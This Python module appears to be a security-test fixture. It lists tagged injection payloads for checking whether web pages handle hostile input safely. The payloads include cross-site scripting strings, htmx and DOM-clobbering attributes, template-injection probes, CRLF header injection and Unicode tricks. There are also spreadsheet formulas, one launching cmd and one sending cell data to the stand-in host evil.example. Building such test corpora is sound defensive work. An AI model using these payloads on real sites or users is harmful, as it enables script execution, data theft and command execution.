"""Texts that break careless pages. Each carries ``MARK``, so that a parser can tell where it came to lie."""
# ruff: noqa: E501 - tables of what is sent

MARK = "zq7"

_RUN = "alert(1)"
_ELEMENTS = (
    "<script>{run}</script>", "</script><script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script\n>{run}</script\t>",
    "<script src=//evil.example/zq7.js></script>", "<script x=zq7>{run}", "<<script>{run}//<</script>",
    "</title><script>{run}</script>", "</textarea><script>{run}</script>", "</style><script>{run}</script>",
    "</template><script>{run}</script>", "</noscript><script>{run}</script>", "--><script>{run}</script>",
    "<!--<script>{run}//--></script>", "]]><script>{run}</script>", "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,zq7 /></svg>", "<svg><a xlink:href=javascript:{run}><text>zq7</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:{run}></foreignObject></svg>",
    "<math><mtext><mglyph><style><img src onerror={run}>", "<math href=javascript:{run}>zq7</math>",
    "<img src=x onerror={run}>", '<img src=x onerror="{run}">', "<img src=`x`onerror={run}>", "<img/src=x/onerror={run}>",
    "<img src onerror={run}//", "<image src=x onerror={run}>", "<body onload={run}>", "<body onpageshow={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>{run}</script>'>", "<frame src=javascript:{run}>",
    "<object data=javascript:{run}>", "<object data=data:text/html,zq7></object>", "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=//evil.example/zq7.css>", "<link rel=import href=//evil.example/zq7>",
    "<style>*{{background:url(//evil.example/zq7)}}</style>", "<style>@import '//evil.example/zq7';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta charset=utf-7 name=zq7>",
    "<base href=//evil.example/zq7/>", "<video><source onerror={run}>", "<audio src=x onerror={run}>",
    "<video poster=javascript:{run}>", "<details open ontoggle={run}>", "<marquee onstart={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<button formaction=javascript:{run}>zq7</button>", "<form action=javascript:{run}><input type=submit>",
    "<isindex type=image src=1 onerror={run}>", "<keygen autofocus onfocus={run}>", "<dialog open onclose={run}>",
    "<xss style='animation-name:x' onanimationend={run}>", "<table background=javascript:{run}>",
)  # fmt: skip
_ATTRIBUTES = (
    '"><script>{run}</script>', "'><script>{run}</script>", '" onmouseover="{run}" x="zq7', "' onmouseover='{run}' x='zq7",
    '" autofocus onfocus={run} zq7="', "` onmouseover={run} zq7=`", '"style="x:expression({run})" zq7="',
    '" formaction="javascript:{run}" zq7="', "x' onclick='{run}", '\\"><img src=x onerror={run}>', "\" data-zq7=\"1",
    "'/**/onclick={run}//zq7",
)  # fmt: skip
_HTMX = (
    "<b hx-get=/acts/1/undo hx-trigger=load>zq7</b>", "<b data-hx-post=/sign-out data-hx-trigger=load>zq7</b>",
    "<b hx-on:load={run}>zq7</b>", "<b hx-on::after-request={run}>zq7</b>", "<b data-hx-on-click={run}>zq7</b>",
    "<b hx-vals='js:{{x:{run}}}'>zq7</b>", "<b hx-swap-oob=true id=main>zq7</b>", '" hx-get="/acts/1/undo" zq7="',
    "<meta name=htmx-config content='{{\"allowEval\":true}}' zq7>", "<b hx-ext=zq7 hx-boost=true>",
    "<b _='on load call {run}'>zq7</b>", "<b x-data x-init={run}>zq7</b>",
)  # fmt: skip
_CLOBBERING = (
    "<a id=htmx name=zq7>", "<form id=toasts><input name=children zq7>", "<img name=getElementById zq7>",
    "<a id=main href=javascript:{run}>zq7</a>", "<form name=cookie><input name=attributes zq7></form>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", " javascript:{run}",
    "\x01javascript:{run}", "javascript://example.com/%0a{run}", "data:text/html,<script>{run}</script>",
    "vbscript:{run}", "//evil.example/zq7", "https:javascript:{run}", "feed:javascript:{run}", "blob:zq7",
)  # fmt: skip
_LANGUAGES = (
    "{{{{7*191}}}}zq7", "{{% if 1 %}}zq7{{% endif %}}", "${{7*191}}zq7", "#{{7*191}}zq7", "<%= 7*191 %>zq7", "{{{{config}}}}zq7",
    "{{{{''.__class__.__mro__}}}}zq7", "[[${{7*191}}]]zq7", "{{php}}echo 7*191;{{/php}}zq7", "%(name)s %s {{0}} {{name}} zq7",
    "{{# zq7 #}}", "{{{{constructor.constructor('{run}')()}}}}",
)  # fmt: skip
_SIGNS = (
    "abc\u202ezq7txt.exe", "\u2066zq7\u2069", "zq7\x00after", "zq7\x1b[31m", "\ufeffzq7", "zq7\u2028\u2029line",
    "&lt;script&gt;{run}&lt;/script&gt;zq7", "&#60;script&#62;zq7", "&#x3c;script&#x3e;zq7", "%3Cscript%3Ezq7",
    "\\u003cscript\\u003ezq7", "\\x3cscript\\x3ezq7", "+ADw-script+AD4-{run}zq7", "\uff1cscript\uff1ezq7",
    "\u00bcscript\u00be{run}zq7", "zq7" + "\u0301" * 60, "zq7\r\nSet-Cookie: zq7=1", "zq7\r\n\r\n<b>", "zq7\ud800",
)  # fmt: skip
_FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"zq7\")", "+zq7", "-2+3+cmd|' /C calc'!A0", "@SUM(zq7)", "=cmd|'zq7'!A1",
    "\t=zq7", "\uff1dzq7", "'=zq7", " =zq7",
)  # fmt: skip

# A half of a surrogate pair cannot travel in a form; it comes by other doors.
PAYLOADS: tuple[str, ...] = tuple(
    text.format(run=f"{_RUN}/*{MARK}*/") if "{" in text else text
    for group in (_ELEMENTS, _ATTRIBUTES, _HTMX, _CLOBBERING, _ADDRESSES, _LANGUAGES, _SIGNS, _FORMULAS)
    for text in group
)
FORM_PAYLOADS = tuple(text for text in PAYLOADS if "\ud800" not in text)
LONG = ("zq7<b>" * 2_000, "zq7 " * 5_000, "\u202e" * 10_000 + "zq7", "<" * 20_000)
